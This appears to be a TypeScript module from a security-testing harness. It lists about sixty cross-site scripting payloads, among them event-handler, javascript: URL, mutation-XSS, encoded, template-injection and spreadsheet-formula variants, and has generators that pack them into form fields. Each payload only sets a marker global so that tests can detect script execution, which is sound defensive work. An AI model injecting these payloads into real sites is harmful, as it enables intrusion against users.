/**
 * Known ways of getting a script to run where a text is shown, after OWASP’s filter evasion list and the collections that scanners bring along: each sets the global
 * `planted` once it runs. What ends an attribute or a tag comes first in some, since nobody knows where a text will stand.
 */
export const payloads: readonly string[] = [
  '<img src=x onerror=planted=1>',
  '<svg onload=planted=1>',
  '<script>planted=1</script>',
  '"><script>planted=1</script>',
  `'><img src=x onerror=planted=1>`,
  '" autofocus onfocus=planted=1 x="',
  `' onmouseover=planted=1 x='`,
  'javascript:planted=1',
  'JaVaScRiPt:planted=1',
  'java\tscript:planted=1',
  '[x](javascript:planted=1)',
  '![x](x" onerror="planted=1)',
  '<a href=javascript:planted=1>x</a>',
  '<a href="&#106;avascript:planted=1">x</a>',
  '<a href="java&Tab;script:planted=1">x</a>',
  '<a href="data:text/html,<script>opener.planted=1</script>">x</a>',
  '<iframe src=javascript:parent.planted=1>',
  '<iframe srcdoc="<script>parent.planted=1</script>">',
  '<body onload=planted=1>',
  '<details open ontoggle=planted=1>',
  '<video><source onerror=planted=1>',
  '<audio src=x onerror=planted=1>',
  '<input autofocus onfocus=planted=1>',
  '<marquee onstart=planted=1>',
  '<object data=javascript:planted=1>',
  '<embed src=javascript:planted=1>',
  '<form action=javascript:planted=1><button>',
  '<math href=javascript:planted=1>x</math>',
  '<svg><animate onbegin=planted=1 attributeName=x>',
  '<svg><script>planted=1</script></svg>',
  '<style>@import "javascript:planted=1";</style>',
  '<div style="animation:x" onanimationend=planted=1>',
  '<meta http-equiv=refresh content="0;url=javascript:planted=1">',
  '<base href=javascript:planted=1//>',
  '<link rel=stylesheet href=javascript:planted=1>',
  '</title><script>planted=1</script>',
  '</textarea><script>planted=1</script>',
  '</script><script>planted=1</script>',
  '--><script>planted=1</script>',
  '<noscript><p title="</noscript><img src=x onerror=planted=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=planted=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=planted=1>',
  '<svg></p><style><a id="</style><img src=x onerror=planted=1>">',
  '<<script>planted=1//<</script>',
  '<scr<script>ipt>planted=1</scr</script>ipt>',
  '<img src=`x`onerror=planted=1>',
  '<img/src=x/onerror=planted=1>',
  '<IMG SRC=x ONERROR=planted=1>',
  '&lt;img src=x onerror=planted=1&gt;',
  '&#60;img src=x onerror=planted=1&#62;',
  '\\u003cimg src=x onerror=planted=1\\u003e',
  '%3Cimg src=x onerror=planted=1%3E',
  '＜img src=x onerror=planted=1＞',
  `{{constructor.constructor('planted=1')()}}`,
  '${planted=1}',
  '#{planted=1}',
  '<%= planted=1 %>',
  `=HYPERLINK("javascript:planted=1","x")`,
];

/**
 * Texts to try in one field, the longest first: as many of the list as a field of that length holds. Each field begins elsewhere in the list, so that all of it is used
 * where fields are short, too.
 */
export function* textsFrom(start: number): Generator<string> {
  for (const length of [6000, 1500, 400, 180, 90, 50, 30]) yield `${signOf(start)} ${joined(start, length - 6)}`;
}

/** The same for a field that takes an address of the web alone: such as run, then one that would end the attribute that it stands in. */
export function* addressesFrom(start: number): Generator<string> {
  yield* payloads.filter((payload) => /^java/i.test(payload));
  yield 'data:text/html,<script>planted=1</script>';
  yield `https://example.org/${signOf(start)}"><img src=x onerror=planted=1>?'onmouseover=planted=1//`;
}

/** Begins the texts of one field, so that a page that shows them can be told. */
export const signOf = (field: number): string => `z${field}z`;

function joined(start: number, length: number): string {
  let text = '';
  for (let i = 0; i < payloads.length; i += 1) {
    const payload = payloads[(start + i) % payloads.length] as string;
    const longer = text ? `${text} ${payload}` : payload;
    if (longer.length <= length) text = longer;
  }
  return text;
}
